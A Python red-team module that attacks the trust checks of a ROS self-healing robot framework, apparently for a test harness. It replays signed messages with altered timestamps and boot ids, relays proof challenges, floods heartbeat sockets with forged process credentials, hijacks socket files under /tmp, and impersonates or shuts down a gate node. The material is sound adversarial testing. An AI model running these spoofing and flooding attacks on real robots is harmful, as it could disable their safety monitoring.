"""Attacks on how healing tells its own from others: signatures, signs of life, the gate."""
import collections
import math
import multiprocessing
import os
import random
import socket
import time
import xmlrpc.client
from contextlib import suppress
from pathlib import Path
from typing import Any, Deque, List, Tuple

import rospy
from shsa_msgs.msg import (
    Calibrations,
    Failure,
    Float64Stamped,
    Health,
    Incident,
    SomState,
    Substitutions,
)

from redteam_attacks.target import ERRORS, GATE, LENGTH, Target, framed, header
from shsa_core.ros.processes.heartbeats import CREDENTIALS, CUT_OFF
from shsa_core.trust.seal import TRAILER
from shsa_testing.raw_publisher import RawPublisher

SAID = {
    "/shsa/failures": (Failure, "/monitor", "/reconfigurator"),
    "/shsa/health": (Health, "/monitor", "/reconfigurator"),
    "/shsa/calibrations": (Calibrations, "/monitor", "/reconfigurator"),
    "/shsa/substitutions": (Substitutions, "/reconfigurator", "/monitor"),
    "/shsa/som_state": (SomState, "/reconfigurator", "/monitor"),
    "/shsa/incidents": (Incident, "/reconfigurator", "/reconfigurator"),
}
"""What is signed, by whom, and who reads it."""
SHIFTS_S = 0.0, 0.1, 0.9, 1.1, 60.0, 3600.0, -0.1, -1.0, -3600.0
KEPT = 200
"""Messages of each topic."""
FLOODERS = 4


def clocks(target: Target, end: float) -> int:
    """Say again what healing said, with other times, and as of another boot; prove that by others.

    A question for a proof is passed on to the real sender, and its answer comes late.
    """
    rospy.init_node("stranger_of_clocks", disable_signals=True)
    heard: Deque[Tuple[str, bytes]] = collections.deque(maxlen=KEPT)
    publishers = {}
    for topic, (kind, sender, _) in SAID.items():
        rospy.Subscriber(topic, rospy.AnyMsg, lambda m, t=topic: heard.append((t, m._buff)))
        bad = publishers[topic] = RawPublisher(topic, sender, kind())
        bad._api.register_function(_late_proof(target, sender), "proveSecret")
        with suppress(*ERRORS):
            bad.register(f"/stranger{topic.replace('/', '_')}")
    count = 0
    while time.monotonic() < end:
        for topic, data in random.sample([*heard], min(10, len(heard))):
            boot, sent, signature = TRAILER.unpack_from(data, len(data) - TRAILER.size)
            sent = max(0, sent + int(1e9 * random.choice(SHIFTS_S)))
            boot = random.choice([boot, boot, os.urandom(len(boot))])
            said = data[: -TRAILER.size] + TRAILER.pack(boot, sent, signature)
            publishers[topic]._frame = LENGTH.pack(len(said)) + said
        for topic, (_, _, reader) in SAID.items():
            with suppress(*ERRORS):
                publishers[topic].tell(reader)
            count += 1
        time.sleep(0.2)
    return count


def _late_proof(target: Target, sender: str) -> Any:
    def prove(*words: Any) -> Any:
        api: Any = xmlrpc.client.ServerProxy(target.uris[sender])
        time.sleep(random.choice([0.0, 0.3]))
        return api.proveSecret(*words)

    return prove


def heartbeats(target: Target, end: float) -> int:
    """Answer and speak in place of healers where signs of life are heard: as much as can be."""
    counts: List[Any] = [multiprocessing.Value("q", 0) for _ in range(FLOODERS)]
    flooders = [multiprocessing.Process(target=_flood_hearts, args=(each, end)) for each in counts]
    for each in flooders:
        each.start()
    tries = 0
    while time.monotonic() < end:
        for folder in Path("/tmp").glob("shsa_redteam_*/shsa"):
            with suppress(OSError):
                for path in folder.iterdir():
                    _squat(str(path))
            _squat(str(folder / f"{tries % 100:032x}.socket"))
            tries += 1
        time.sleep(0.02)
    for each in flooders:
        each.join(5.0)
    return tries + sum(each.value for each in counts)


def _flood_hearts(count: Any, end: float) -> None:
    """Tell all who send signs of life that healing is out of reach, as the robot's user."""
    hearts = [b"\0" + each.encode() for each in os.environ.get("HEARTS", "").split()]
    speaker = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    speaker.settimeout(0.01)
    forged = (socket.SOL_SOCKET, socket.SCM_CREDENTIALS, CREDENTIALS.pack(1, 4001, 4001))
    while hearts and (not count.value or time.monotonic() < end):
        for heart in hearts:
            for said in (CUT_OFF, bytes(100_000), b""):
                with suppress(OSError):
                    speaker.sendto(said, heart)
                count.value += 1
            with suppress(OSError):
                speaker.sendmsg([CUT_OFF], [forged], 0, heart)


def _squat(path: str) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as listener:
        for place in (path, "\0" + path):
            with suppress(OSError):
                listener.sendto(b"/monitor", place)
            with suppress(OSError, ValueError):  # no file has a name that begins with a zero
                os.unlink(place)
            with suppress(OSError, ValueError):
                listener.bind(place)


def gate(target: Target, end: float) -> int:
    """Publish at the gate as its node, as a substitute and as oneself; cut it off; never read."""
    claims: List[Tuple[str, float]] = [
        *(("/gated_node", value) for value in (1e6, 50.0, math.nan)),
        *(("/substitute_gated_1", 50.0), ("/stranger", 7.0)),
    ]
    made = [RawPublisher("/gated/raw", who, Float64Stamped(data=value)) for who, value in claims]
    uri = str(target.master.lookupNode(GATE))
    api: Any = xmlrpc.client.ServerProxy(uri)
    fields = {"topic": "/gated", "type": Float64Stamped._type, "md5sum": Float64Stamped._md5sum}
    opened: List[socket.socket] = []
    count = 0
    while time.monotonic() < end:
        for number, bad in enumerate(made):
            with suppress(*ERRORS):
                bad.register(f"/stranger_{number}")
                bad.tell(GATE)
            with suppress(*ERRORS):
                api.publisherUpdate("/master", "/gated/raw", [])
            with suppress(*ERRORS):
                api.shutdown("/stranger", "says a stranger")
            with suppress(*ERRORS):
                port = api.requestTopic("/stranger", "/gated", [["TCPROS"]])[2][2]
                opened.append(socket.create_connection(("127.0.0.1", int(port)), 1.0))
                opened[-1].sendall(header({**fields, "callerid": f"/s{count}"}))
            bad._frame = framed(Float64Stamped(data=random.choice([1e6, 50.0, math.inf])))
            count += 5
        while len(opened) > 200:
            opened.pop(0).close()
        time.sleep(0.02)
    return count
